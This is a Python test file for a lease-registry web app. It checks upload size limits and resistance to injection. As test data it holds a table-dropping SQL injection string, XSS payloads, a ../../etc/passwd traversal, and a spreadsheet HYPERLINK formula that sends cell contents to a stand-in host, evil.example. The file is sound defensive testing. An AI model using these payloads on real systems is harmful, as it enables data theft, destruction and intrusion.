"""Hostile and broken input: uploads too large to accept, and injection attempts (SQL, HTML,
spreadsheet formulas) in every kind of text the registry takes in and gives back."""
from __future__ import annotations

import csv
import io
import socket
import time

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from registry.core.models import Base, Enterprise

from .webhelpers import login_as, post

SQL = "x'); DROP TABLE lease; --"
HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")"


def _counts(session) -> dict:
    session.rollback()
    return {t.name: session.scalar(select(func.count()).select_from(t)) for t in Base.metadata.sorted_tables}


def test_an_oversized_upload_is_refused_before_its_body_is_sent(live_app_server, world):
    """The server answers 413 from the headers alone: the 10 GB body is never sent, so it cannot
    have been read into memory."""
    port = int(live_app_server.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(b"POST /import HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/form-data; boundary=b\r\n"
                  b"Content-Length: 10737418240\r\n\r\n--b\r\n")
        started = time.monotonic()
        chunks = []
        while chunk := s.recv(65536):  # the server closes the connection after answering
            chunks.append(chunk)
        reply = b"".join(chunks).decode("utf-8", "replace")
    assert reply.startswith("HTTP/1.1 413") and time.monotonic() - started < 5
    assert "上传内容过大" in reply and "200 MB" in reply


def test_an_excel_upload_over_its_own_limit_is_refused_unread(client, world):
    login_as(client, world.manager_a)
    big = io.BytesIO(b"PK" + b"\0" * (21 * 1024 * 1024))
    r = post(client, f"/parks/{world.park_a.id}/excel/preview", {"file": (big, "台账.xlsx")},
             content_type="multipart/form-data")
    assert r.status_code == 413 and "超过 20 MB" in r.get_data(as_text=True)


@pytest.mark.parametrize("value", [SQL, HTML, "' OR '1'='1", "1; SELECT pg_sleep(5)", "%' --", "\u0000", "../../etc/passwd"])
def test_injection_in_query_parameters_changes_nothing_and_breaks_nothing(client, world, session, value):
    login_as(client, world.admin)
    before = _counts(session)
    for url in ("/api/buildings", "/ogc/collections/buildings/items", "/ogc/collections/parks/items",
                f"/parks/{world.park_a.id}/reports/rent-roll", "/evaluation", "/export"):
        for name in ("park", "industry", "type", "bbox", "name", "code", "q", "as_of", "datum", "limit"):
            r = client.get(url, query_string={name: value})
            assert r.status_code < 500, (url, name, r.status_code)
    assert client.get(f"/history/{value}/{value}").status_code in (400, 404)
    assert _counts(session) == before


def test_hostile_names_are_stored_as_typed_and_shown_as_text(client, world, session):
    """A tenant named with SQL, HTML and a formula is saved literally; pages escape it, CSV and the
    report workbook neutralise it, and the Excel template keeps it as text, not a formula."""
    login_as(client, world.manager_a)
    name = FORMULA + SQL + HTML
    unit = world.building_a.units[2]
    r = post(client, f"/buildings/{world.building_a.id}/leases",
             {"unit_id": [unit.id], "uscc": "91610902MA6YUCQX0Y", "name": name, "start_date": "2026-01-01",
              "end_date": "2027-01-01", "rent": "12"})
    assert r.status_code == 302, r.get_data(as_text=True)
    assert session.scalar(select(Enterprise.name).where(Enterprise.uscc == "91610902MA6YUCQX0Y")) == name
    assert session.scalar(select(func.count()).select_from(Base.metadata.tables["lease"])) == 3  # table intact

    page = client.get(f"/buildings/{world.building_a.id}?as_of=2026-06-01").get_data(as_text=True)
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img src=x" not in page

    rows = list(csv.reader(io.StringIO(client.get(
        f"/parks/{world.park_a.id}/reports/rent-roll?format=csv&as_of=2026-06-01").get_data(as_text=True).lstrip("\ufeff"))))
    cells = [c for row in rows for c in row if "HYPERLINK" in c]
    assert cells and all(c.startswith("'=") for c in cells)

    book = load_workbook(io.BytesIO(client.get(
        f"/parks/{world.park_a.id}/reports/rent-roll?format=xlsx&as_of=2026-06-01").data))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)

    template = load_workbook(io.BytesIO(client.get(
        f"/parks/{world.park_a.id}/excel/template?as_of=2026-06-01").data))
    cells = [c for row in template.worksheets[0].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value == name for c in cells)  # exact, so it round-trips
